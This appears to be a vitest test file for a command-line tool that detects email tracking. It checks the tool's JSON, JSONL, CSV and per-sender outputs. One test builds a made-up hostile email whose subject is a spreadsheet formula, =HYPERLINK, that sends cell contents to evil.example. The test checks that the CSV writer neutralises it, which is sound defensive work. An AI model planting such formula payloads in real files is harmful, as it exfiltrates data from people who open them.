// `maillens scan`'s streamed outputs: --json (the same document the engine's reports give), --jsonl,
// --csv and --by-sender, on a few corpus files, a hostile made-up mail and a file that cannot be read.

import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { csvCell, csvRow } from '../../electron/cli/csv-writer';
import { senderDomainOf } from '../../shared/mailbox/summarise-message';
import { jsonDocument } from '../../electron/cli/json-document';
import { scanFiles } from '../../electron/engine/scan-files';
import type { WorkerPool } from '../../electron/engine/worker-pool';
import type { FileReport, MessageReport } from '../../shared/model/report';
import { CORPUS } from '../helpers/corpus';
import { BUILT_CLI, createPool } from '../helpers/pool';

function maillens(...args: string[]) {
  const run = spawnSync(process.execPath, [BUILT_CLI, ...args], { encoding: 'utf8', maxBuffer: 512 * 1024 * 1024 });
  return { code: run.status, stdout: run.stdout, stderr: run.stderr };
}

const UNSPY = join(CORPUS, 'eml', 'unspy-newsletters');
const EMLS = [
  join(UNSPY, 'mailchimp', 'examples', '2023-01-17-schreibsuchti.u1.eml'),
  join(UNSPY, 'mailchimp', 'examples', '2023-01-17-schreibsuchti.u2.eml'),
  join(UNSPY, 'cleverreach', 'examples', '2023-01-02-oekumenisches-asylforum.u1.eml'),
];
const MBOX = join(CORPUS, 'mbox', 'tika', 'complex.mbox');
const MSG = join(CORPUS, 'msg', 'msgreader-js', 'test', 'A black friday (w tz).msg');
const MISSING = join(tmpdir(), 'maillens-no-such-file.eml');
const FILES = [EMLS[0]!, MBOX, MSG, EMLS[1]!, MISSING, EMLS[2]!];

interface Line {
  type: 'message' | 'file' | 'error';
  file: string;
  format: string | null;
  sha256?: string;
  messages?: number;
  error?: string;
  message?: MessageReport;
}

const parseLines = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Line);

/** A minimal RFC 4180 reader: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') endCell();
    else if (char === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += char;
  }
  expect(cell).toBe('');
  return rows;
}

describe('maillens scan output', () => {
  let pool: WorkerPool;
  let reports: FileReport[];

  beforeAll(async () => {
    pool = createPool();
    reports = await scanFiles(FILES, pool, { extraAddresses: [] });
  }, 120_000);
  afterAll(() => pool.close());

  it('streams --json as the same document the engine gives, byte for byte where no mbox is in it', () => {
    const run = maillens('scan', ...FILES, '--json');
    expect(run.code).toBe(1); // the missing file
    const expected = JSON.parse(JSON.stringify(jsonDocument(reports))) as { files: FileReport[] };
    expect(expected.files[1]!.messages).toHaveLength(3);
    expect(JSON.parse(run.stdout)).toEqual(expected);
    // An mbox's sha256 comes after its messages (it is hashed while streamed): same fields, same value.
    const mbox = JSON.parse(run.stdout).files[1] as FileReport;
    expect(Object.keys(mbox)).toEqual(['file', 'format', 'messages', 'sha256']);

    const plain = FILES.filter((path) => path !== MBOX);
    const byteForByte = maillens('scan', ...plain, '--json');
    const plainReports = reports.filter((report) => report.file !== MBOX);
    expect(byteForByte.stdout).toBe(`${JSON.stringify(jsonDocument(plainReports), null, 2)}\n`);
    expect(maillens('scan', MBOX, '--json').code).toBe(0);
  });

  it('--jsonl: one line per message, in input order, matching --json, and one file or error line per file', () => {
    const run = maillens('scan', ...FILES, '--jsonl');
    expect(run.code).toBe(1);
    const lines = parseLines(run.stdout);
    const expected: Line[] = [];
    for (const report of reports) {
      const whole = report.format !== 'mbox';
      for (const message of report.messages) {
        expected.push({
          type: 'message',
          file: report.file,
          format: report.format,
          ...(whole ? { sha256: report.sha256 } : {}),
          message,
        });
      }
      const failed = report.messages.length === 0;
      expected.push({
        type: failed ? 'error' : 'file',
        file: report.file,
        format: report.format,
        sha256: report.sha256,
        messages: report.messages.length,
        ...(report.error !== undefined ? { error: report.error } : {}),
      });
    }
    expect(lines).toEqual(JSON.parse(JSON.stringify(expected)));
    expect(lines.filter((line) => line.type === 'error')).toEqual([
      { type: 'error', file: MISSING, format: null, sha256: '', messages: 0, error: 'no such file' },
    ]);
  });

  it('--jsonl keeps mbox order through the bounded window and names the hash on the file line', () => {
    const folder = mkdtempSync(join(tmpdir(), 'maillens-order-'));
    const mbox = join(folder, 'many.mbox');
    let text = '';
    for (let i = 1; i <= 120; i++) {
      // Uneven sizes, so that workers finish out of order.
      const body = `<p>${'x'.repeat((i * 7919) % 20000)}</p><img src="https://t.example.net/o/${i}.gif" width="1" height="1">`;
      text += `From sender@example.org Mon Jan  1 00:00:00 2024\nFrom: s${i}@example.org\nSubject: m${i}\n`;
      text += `Content-Type: text/html\n\n${body}\n\n`;
    }
    writeFileSync(mbox, text);
    const run = maillens('scan', mbox, EMLS[0]!, '--jsonl');
    expect(run.code).toBe(0);
    const lines = parseLines(run.stdout);
    expect(lines).toHaveLength(120 + 1 + 2);
    expect(lines.slice(0, 120).map((line) => line.message!.subject)).toEqual(
      Array.from({ length: 120 }, (_, i) => `m${i + 1}`),
    );
    expect(lines[0]).not.toHaveProperty('sha256');
    expect(lines[120]).toEqual({
      type: 'file',
      file: mbox,
      format: 'mbox',
      sha256: createHash('sha256').update(readFileSync(mbox)).digest('hex'),
      messages: 120,
    });
    expect(lines[121]).toMatchObject({ type: 'message', file: EMLS[0], format: 'eml' });
  });

  it('--csv: one row per message, RFC 4180 quoting, no formula reaches a spreadsheet', () => {
    const folder = mkdtempSync(join(tmpdir(), 'maillens-csv-'));
    const hostile = join(folder, 'hostile.eml');
    writeFileSync(
      hostile,
      'From: "Evil" <-2+3@evil.example>\r\nTo: reader@example.org\r\n' +
        'Subject: =HYPERLINK("http://evil.example/?"&A1,"click"), and "more"\r\n' +
        'Date: Mon, 1 Jan 2024 00:00:00 +0000\r\nContent-Type: text/html\r\n\r\n' +
        '<img src="https://evil.example/o.gif?e=reader@example.org" width="1" height="1">\r\n',
    );
    const run = maillens('scan', hostile, EMLS[0]!, MBOX, MISSING, '--csv');
    expect(run.code).toBe(1);
    expect(run.stdout.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(run.stdout);
    expect(rows[0]).toEqual([
      'file',
      'index',
      'date',
      'fromAddress',
      'fromDomain',
      'subject',
      'platform',
      'level',
      'trackers',
      'identifiesYou',
      'probablyIdentifiesYou',
      'possibleTrackers',
      'trackedLinks',
      'readReceipt',
      'trackerNames',
      'error',
    ]);
    expect(rows.slice(1).map((row) => [row[0], row[1]])).toEqual([
      [hostile, '1'],
      [EMLS[0], '1'],
      [MBOX, '1'],
      [MBOX, '2'],
      [MBOX, '3'],
      [MISSING, ''],
    ]);
    for (const row of rows) expect(row).toHaveLength(16);
    const [, first] = rows;
    expect(first![3]).toBe("'-2+3@evil.example");
    expect(first![5]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click"), and "more"`);
    expect(first![7]).toBe('identifies');
    expect(rows[2]![14]).toBe('Mailchimp');
    expect(rows.at(-1)![15]).toBe('no such file');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('quotes and defuses CSV cells', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(null)).toBe('');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(false)).toBe('false');
    expect(csvRow(['a', 'b c'])).toBe('a,b c\r\n');
  });

  it('--by-sender counts messages, trackers, companies and countries per sender (registrable domain)', () => {
    const files = [...EMLS, MBOX, MISSING];
    const run = maillens('scan', ...files, '--by-sender', '--json');
    expect(run.code).toBe(1);
    const overview = JSON.parse(run.stdout) as {
      files: number;
      senders: Array<{
        domain: string;
        organisation: string;
        messages: number;
        tracked: number;
        identifiesYou: number;
        companies: string[];
        countriesOutsideEea: string[];
      }>;
      unreadable: Array<{ file: string; error: string }>;
    };
    expect(overview.files).toBe(5);
    expect(overview.unreadable).toEqual([{ file: MISSING, error: 'no such file' }]);
    const schreibsuchti = overview.senders.find((row) => row.domain === 'schreibsuchti.de');
    expect(schreibsuchti).toMatchObject({ messages: 2, tracked: 2, identifiesYou: 2, countriesOutsideEea: ['US'] });
    expect(schreibsuchti!.companies).toEqual(['Intuit Inc.']);
    // Every count agrees with the messages --jsonl gives for the same files.
    const messages = parseLines(maillens('scan', ...files, '--jsonl').stdout).flatMap((line) =>
      line.message ? [line.message] : [],
    );
    for (const row of overview.senders) {
      const mine = messages.filter((message) => senderDomainOf(message.from[0]?.address ?? '') === row.domain);
      expect(row.messages).toBe(mine.length);
      expect(row.tracked).toBe(mine.filter((message) => message.verdict!.trackers > 0).length);
      expect(row.identifiesYou).toBe(mine.filter((message) => message.verdict!.identifiesYou > 0).length);
    }
    expect(overview.senders.reduce((sum, row) => sum + row.messages, 0)).toBe(messages.length);

    const table = maillens('scan', ...files, '--by-sender');
    expect(table.code).toBe(1);
    expect(table.stdout).toMatch(/^schreibsuchti\.de\s+2\s+100%\s+2\s+Intuit Inc\.\s+US$/m);
    expect(table.stdout).toContain(`ERROR ${MISSING}: no such file`);
    const csv = parseCsv(maillens('scan', ...files, '--by-sender', '--csv').stdout);
    expect(csv[0]).toEqual([
      'domain',
      'organisation',
      'messages',
      'tracked',
      'trackedShare',
      'identifiesYou',
      'companies',
      'countriesOutsideEea',
    ]);
    const row = csv.find((cells) => cells[0] === 'schreibsuchti.de')!;
    expect([row[0], ...row.slice(2)]).toEqual(['schreibsuchti.de', '2', '2', '1.000', '2', 'Intuit Inc.', 'US']);
    expect(row[1]).toBe(schreibsuchti!.organisation);
  });

  it('keeps the table, its totals and the exit codes', () => {
    const run = maillens('scan', EMLS[0]!, MBOX);
    expect(run.code).toBe(0);
    const lines = run.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^FILE\s+#\s+SUBJECT\s+PLATFORM\s+VERDICT$/);
    expect(lines).toHaveLength(1 + 4 + 2);
    expect(lines.at(-1)).toMatch(
      /^2 files, 4 messages \(1 with trackers\), \d+ remote references \(\d+ fetched on open\)$/,
    );
    expect(maillens('scan', MISSING).code).toBe(1);
    for (const flags of [
      ['--json', '--csv'],
      ['--jsonl', '--json'],
      ['--jsonl', '--by-sender'],
    ]) {
      const usage = maillens('scan', EMLS[0]!, ...flags);
      expect(usage.code).toBe(2);
      expect(usage.stderr).toContain('Usage:');
    }
  });
});
